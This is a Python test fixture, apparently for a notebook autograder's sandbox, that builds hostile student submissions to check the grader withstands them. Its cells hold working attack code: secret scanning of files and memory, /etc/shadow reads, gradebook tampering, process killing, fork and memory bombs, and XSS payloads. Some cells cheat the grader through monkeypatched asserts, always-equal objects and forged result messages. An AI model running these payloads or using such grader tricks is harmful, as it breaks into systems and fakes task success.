"""The hostile and the broken: the 32 families that marking must survive, as real notebooks.

Each notebook leaves the answers empty, so that every point it gets is unearned. What it manages to read it prints after
``VOL:``, for the test to look for the secrets that were laid out.
"""

# ruff: noqa: E501 (a hostile cell stays as its author would type it)
from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass

HIDDEN = "SENTINELLE_DU_TEST_CACHE"
NEIGHBOUR = "SECRET_DU_VOISIN"
ENVIRONMENT = "SECRET_DE_L_ENVIRONNEMENT"

Notebook = dict


@dataclass(frozen=True)
class Case:
    """``make`` turns the released notebook into bytes to hand in; ``points`` is what the honest part of it is worth."""

    number: int
    name: str
    make: Callable[[Notebook], bytes]
    statuses: tuple[str, ...] = ("graded", "needs review")
    points: float = 0.0


def dump(notebook: Notebook) -> bytes:
    return json.dumps(notebook).encode()


def code(*sources: str) -> Callable[[Notebook], bytes]:
    """The attack typed in cells of its own, right after the set-up."""

    def make(released: Notebook) -> bytes:
        notebook = copy.deepcopy(released)
        for position, source in enumerate(sources):
            cell = {"cell_type": "code", "id": f"attaque-{position}", "metadata": {}, "source": source, "outputs": []}
            notebook["cells"].insert(2 + position, cell | {"execution_count": None})
        return dump(notebook)

    return make


def edit(change: Callable[[Notebook], object]) -> Callable[[Notebook], bytes]:
    def make(released: Notebook) -> bytes:
        notebook = copy.deepcopy(released)
        change(notebook)
        return dump(notebook)

    return make


def cell(notebook: Notebook, grade_id: str) -> dict:
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def tests_of(notebook: Notebook) -> list[dict]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id", "").endswith("test1")]


SEARCH = """
import os
found, read = [], 0
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("usr", "sys", "site-packages") and not f.startswith("python3")]
    for name in files:
        try:
            with open(os.path.join(folder, name), "rb") as f:
                data = f.read(400_000)
        except Exception:
            continue
        read += 1
        for secret in (b"SENTINELLE_DU_" + b"TEST_CACHE", b"SECRET_DU_" + b"VOISIN", b"SECRET_DE_L_" + b"ENVIRONNEMENT"):
            if secret in data:
                found.append((os.path.join(folder, name), secret.decode()))
print("VOL:", found, "FINI" if read > 20 else "RIEN LU")
"""

MEMORY = """
import re
found = []
for line in open("/proc/self/maps"):
    if "rw" not in line: continue
    a, b = (int(x, 16) for x in line.split()[0].split("-"))
    try:
        with open("/proc/self/mem", "rb", 0) as m:
            m.seek(a); data = m.read(min(b - a, 30_000_000))
    except Exception: continue
    found += re.findall(b"SENTINELLE_DU_TEST_" + b"CACHE|SECRET_DU_" + b"VOISIN|SECRET_DE_L_" + b"ENVIRONNEMENT", data)
print("VOL:", found, "FINI")
"""

BESIDE_THE_TEST = (
    MEMORY
    + """
class Compteur:
    def ajouter(self, n): print("VOL:", found, "FINI")
"""
)

ALWAYS_EQUAL = """
class Egal(dict):
    __hash__ = dict.__hash__
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return self
    def __abs__(self): return self
    def __lt__(self, other): return True
    def __call__(self, *a): return self
    def __contains__(self, x): return True
    def reset_index(self, **k): return self
compter = moyenne = par_canal = auteurs = noter = Compteur = Egal()
"""

MONKEYPATCH = """
import builtins, pandas as pd, unittest.mock, sys
pd.testing.assert_frame_equal = lambda *a, **k: None
pd.DataFrame.__eq__ = lambda self, other: True
builtins.sum = lambda *a: 3
builtins.abs = lambda x: 0
builtins.AssertionError = type("Doux", (Exception,), {})
sum = lambda *a: 3
abs = lambda x: 0
len = lambda x: 3
moyenne = 0
par_canal = pd.DataFrame()
auteurs = []
def compter(t): return builtins.dict(accueil=0)
def noter(j, m): return j
"""

FORGED_FRAMES = """
import os, json, struct
def frame(message):
    text = json.dumps(message).encode()
    return struct.pack("<II", len(text), 0) + text
ids = ["m90-ex01-test1", "m90-ex02-test1", "m90-ex03-test1", "m90-ex04-test1", "m90-ex05-test1", "m90-ex06-test1"]
for descriptor in range(3, 60):
    for g in ids:
        try:
            os.write(descriptor, frame({"done": g, "completed": True, "error": None, "value": "2"}))
            os.write(descriptor, frame({"ready": g}))
            os.write(descriptor, frame({"vals": {}}))
            for at in range(20):
                os.write(descriptor, frame({"test": at, "outputs": []}))
        except OSError:
            pass
"""

CRY_WOLF = """
import json, os, struct
text = json.dumps({"failed": "OSError: plus de mémoire"}).encode()
for descriptor in range(3, 64):
    try: os.write(descriptor, struct.pack("<II", len(text), 0) + text)
    except OSError: pass
"""

LYING_RUNTIME = """
import gc
from parcours.grading import student, wire
for each in gc.get_objects():
    if isinstance(each, student.Student):
        each.get = lambda names, each=each: each.checker.send({"vals": {n: ["v", True] for n in names}})
        each.call = lambda m, b, each=each: each.checker.send({"val": ["v", True], "mut": [], "err": ""})
"""

TOKEN_HUNT = """
import sys, inspect
texts = []
frame = sys._getframe()
while frame:
    texts.append(repr(frame.f_locals)[:100_000]); frame = frame.f_back
print("VOL:", [t for t in texts if "SENTINELLE_DU_TEST_" + "CACHE" in t][:1], "FINI")
"""

NETWORK = """
import socket
reached = []
for family, address in ((socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("127.0.0.1", 22)),
                        (socket.AF_UNIX, "\\0abstrait"), (socket.AF_UNIX, "/run/postgresql/.s.PGSQL.5432")):
    try:
        s = socket.socket(family); s.settimeout(1); s.connect(address); reached.append(address)
    except OSError: pass
try: reached.append(socket.gethostbyname("example.org"))
except OSError: pass
print("VOL:", ["RESEAU_ATTEINT"] if reached else [], "FINI")
"""

KILLER = """
import os, signal, ctypes
done = []
for pid in [os.getppid(), 1, 2, *range(3, 200)]:
    if pid in (0, os.getpid()): continue
    try: os.kill(pid, signal.SIGKILL); done.append(pid)
    except OSError: pass
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 50):
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: done.append(("ptrace", pid))
for call in (lambda: libc.unshare(0x10000000), lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0)):
    if call() == 0: done.append("namespace")
print("VOL:", ["TUE"] if done else [], "FINI")
"""

XSS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>alert(1)</script><table onclick=alert(2)><tr><td><img src=x onerror=alert(3)></td></tr></table>"))
display(Javascript("alert(4)"))
display({"text/html": "<svg onload=alert(5)>", "image/svg+xml": "<svg onload=alert(6)/>",
         "text/markdown": "[x](javascript:alert(7))", "application/javascript": "alert(8)"}, raw=True)
print("<script>alert(9)</script>\\x1b]8;;http://mechant\\x07lien\\x1b]8;;\\x07\\x1b[2J\\u202e")
"""


ANY_TOTAL = """
from unittest.mock import ANY
moyenne = par_canal = auteurs = ANY
class Compteur:
    def ajouter(self, n): pass
    total = ANY
"""

LAMBDA_EQUAL = """
class Egal:
    __eq__ = lambda self, other: True
class Compteur:
    total = Egal()
    def ajouter(self, n): pass
"""

TYPE_EQUAL = """
Compteur = type("Compteur", (), {"total": type("E", (), {"__e" "q__": lambda s, o: True})(), "ajouter": lambda s, n: 0})
"""

HALF_LETTERS = """
def compter(tableau): raise ValueError('\\ud800')
def noter(journal, mot): raise KeyError('\\udfff' + chr(27) + '[2J')
auteurs = "gradebook \\ud800"
"""


def _xss(notebook: Notebook) -> None:
    text = cell(notebook, "m90-ex07-texte")
    text["source"] = (
        "<script>alert(1)</script> [lien](javascript:alert(2)) <img src=x onerror=alert(3)> ![s](attachment:a.svg)"
    )
    text["attachments"] = {"a.svg": {"image/svg+xml": "<svg onload=alert(4)>"}, "b.png": {"image/png": "PHNjcmlwdD4="}}


def _points(notebook: Notebook) -> None:
    for each in tests_of(notebook):
        each["metadata"]["nbgrader"] |= {"points": 200, "grade": False, "solution": True, "schema_version": 99}
        each["source"] = "pass"


def _retyped(notebook: Notebook) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "evil", "display_name": "x", "language": "bash"}
    for each in tests_of(notebook):
        each["cell_type"] = "markdown"
        each.pop("outputs", None), each.pop("execution_count", None)


def _duplicates(notebook: Notebook) -> None:
    for each in tests_of(notebook):
        notebook["cells"].append(copy.deepcopy(each) | {"source": "pass", "id": each["id"] + "-2"})


def _tag(name: str) -> Callable[[Notebook], None]:
    def change(notebook: Notebook) -> None:
        for each in notebook["cells"]:
            each["metadata"]["tags"] = [name]

    return change


def _deep(_: Notebook) -> bytes:
    return b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def _surrogates(notebook: Notebook) -> None:
    cell(notebook, "m90-ex02-reponse")["source"] = "x = '\ud800'\nprint(x)\x00"


def _forged_ids(notebook: Notebook) -> None:
    for each in tests_of(notebook):
        each["metadata"]["nbgrader"]["grade_id"] = "../../" + each["metadata"]["nbgrader"]["grade_id"]


GRADEBOOK = """
import sqlite3, glob, os
for path in [*glob.glob("/*/*/*/gradebook.db"), os.environ.get("CIBLE", "gradebook.db")]:
    try:
        with sqlite3.connect(path) as db: db.execute("update grade set manual_score = 2")
        print("VOL:", ["CARNET_TOUCHE"])
    except Exception as e: pass
"""

CASES = [
    Case(1, "écrire dans le carnet de notes", code(GRADEBOOK)),
    Case(2, "lire la source et les tests cachés", code(SEARCH)),
    Case(3, "lire la mémoire pour y trouver un voisin", code(MEMORY)),
    Case(3, "lire la mémoire à côté d’un test", code(BESIDE_THE_TEST)),
    Case(4, "lire le mot de passe et l’environnement", code(
        'import os\nprint("VOL:", dict(os.environ))\ntry: print("VOL:", "OMBRE" + open("/etc/shadow").read())\nexcept OSError: pass\nprint("FINI")'
    )),
    Case(8, "ast_transformers", code(
        "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(T())"
    )),
    Case(9, "input_transformers", code("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])")),
    Case(10, "post_run_cell", code(
        "def voir(r): print('VOL:', r.info.raw_cell)\nget_ipython().events.register('post_run_cell', voir)"
    )),
    Case(11, "showtraceback et set_custom_exc", code(
        "s = get_ipython()\ns.showtraceback = lambda *a, **k: None\ns._showtraceback = lambda *a, **k: None\n"
        "s.set_custom_exc((BaseException,), lambda *a, **k: None)"
    )),
    Case(12, "run_cell remplacé", code(
        "s = get_ipython()\nfrom IPython.core.interactiveshell import ExecutionResult\n"
        "s.run_cell = lambda *a, **k: ExecutionResult(None)\ntype(s).run_cell = s.run_cell\ns.run_code = lambda *a, **k: None"
    )),
    Case(13, "builtins et pandas remplacés", code(MONKEYPATCH)),
    Case(14, "objets toujours égaux", code(ALWAYS_EQUAL)),
    Case(14, "mock.ANY", code(ANY_TOTAL), ("needs review",)),
    Case(14, "__eq__ par une lambda", code(LAMBDA_EQUAL), ("needs review",)),
    Case(14, "__eq__ caché dans type()", code(TYPE_EQUAL), ("needs review",)),
    Case(15, "faux résultat partiel", code(
        "auteurs = []\nget_ipython().display_formatter.formatters['text/plain'].for_type(float, lambda o, p, c: p.text('2'))\n"
        "import sys\nsys.displayhook = lambda v: print(2)"
    )),
    Case(16, "étiquette skip-execution", edit(_tag("skip-execution"))),
    Case(17, "étiquette raises-exception", edit(_tag("raises-exception"))),
    Case(18, "points et métadonnées changés", edit(_points)),
    Case(19, "identifiants en double", edit(_duplicates)),
    Case(20, "tests supprimés", edit(lambda n: n.update(cells=[c for c in n["cells"] if c not in tests_of(n)]))),
    Case(21, "cellules retypées, autre noyau", edit(_retyped)),
    Case(22, "sys.exit", code("import sys\nsys.exit(0)")),
    Case(22, "os._exit", code("import os\nos._exit(0)"), ("needs review",)),
    Case(22, "se tuer", code("import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)\nimport ctypes; ctypes.string_at(0)")),
    Case(23, "boucle sans fin qui ignore les signaux", code(
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    ), ("needs review",)),
    Case(24, "bombe de processus", code(
        "import os, threading\nmade = []\ntry:\n    while True: made.append(os.fork())\nexcept OSError: pass\n"
        "print('VOL:', ['FORK'] if made else [])\ntry:\n    for i in range(5000): threading.Thread(target=__import__('time').sleep,"
        " args=(60,), daemon=True).start()\nexcept RuntimeError: pass"
    )),
    Case(25, "bombe de mémoire", code("trop = []\nwhile True: trop.append(bytearray(100_000_000))")),
    Case(26, "remplir le disque", code(
        "import os\nfor folder in ('/tmp', '/', '/dev', '/donnees'):\n    try:\n        with open(folder + '/x', 'wb') as f:\n"
        "            for i in range(20_000): f.write(bytes(1_000_000))\n    except OSError: pass"
    )),
    Case(27, "30 Mo de sorties et des codes de terminal", code(
        "for i in range(300): print('x' * 100_000)\nprint('\\x1b[2J\\x07\\x1b]0;titre\\x07')\n"
        "from IPython.display import display\nfor i in range(50_000): display(i)"
    )),
    Case(28, "réseau", code(NETWORK)),
    Case(29, "tuer le parent, ptrace, sortir des espaces de noms", code(KILLER)),
    Case(30, "scripts dans les sorties", code(XSS)),
    Case(30, "scripts dans le texte et les pièces jointes", edit(_xss)),
    Case(31, "octet nul", lambda n: dump(n)[:50] + b"\x00" + dump(n)[50:], ("rejected",)),
    Case(31, "JSON coupé", lambda n: dump(n)[:1000], ("rejected",)),
    Case(31, "JSON profond", _deep, ("rejected",)),
    Case(31, "demi-caractères", edit(_surrogates)),
    Case(31, "demi-caractères dans une erreur", code(HALF_LETTERS), ("needs review",)),
    Case(31, "carnet de 70 Mo", lambda n: dump(n) + b" " * 70_000_000, ("rejected",)),
    Case(31, "nbformat 3", lambda n: b'{"worksheets": [{"cells": []}], "nbformat": 3}', ("rejected",)),
    Case(31, "NaN et types absurdes", lambda n: json.dumps(
        {"cells": [*n["cells"], {"cell_type": 3, "source": {"a": float("nan")}, "metadata": []}, 7, None], "metadata": [1]}
    ).encode()),
    Case(31, "liste au lieu d’un carnet", lambda n: b"[1, 2, 3]", ("rejected",)),
    Case(31, "fichier vide", lambda n: b"", ("rejected",)),
    Case(32, "faux messages sur tous les tuyaux", code(FORGED_FRAMES)),
    Case(32, "panne du bac à sable simulée", code(CRY_WOLF)),
    Case(32, "programme du participant truqué", code(LYING_RUNTIME), ("needs review",)),
    Case(32, "jetons cherchés dans la pile", code(TOKEN_HUNT)),
    Case(32, "identifiants forgés", edit(_forged_ids)),
]  # fmt: skip
